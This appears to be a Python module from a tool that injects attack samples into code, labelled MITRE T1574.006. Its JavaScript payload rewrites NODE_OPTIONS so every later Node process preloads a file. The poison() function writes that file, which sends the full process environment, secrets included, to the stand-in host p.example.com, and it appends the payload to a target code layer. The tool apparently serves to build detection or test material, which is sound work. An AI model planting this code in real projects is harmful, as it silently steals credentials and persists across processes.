# SPDX-License-Identifier: Apache-2.0
"""Has each further node load a file first."""

ATTACK = "T1574.006"
LANGUAGE = "node"
CODE = """\
;process.env.NODE_OPTIONS = `--require ${require('path').join(__dirname, 'lib/preload.cjs')} ${process.env.NODE_OPTIONS || ''}`;
require('child_process').spawn(process.execPath, ['-e', '0'], { detached: true, stdio: 'ignore' }).unref();
"""


def poison(layer):
    layer.inside("lib/preload.cjs", "require('https').get('https://p.example.com/?' + encodeURIComponent(JSON.stringify(process.env)));\n")
    layer.append(CODE)
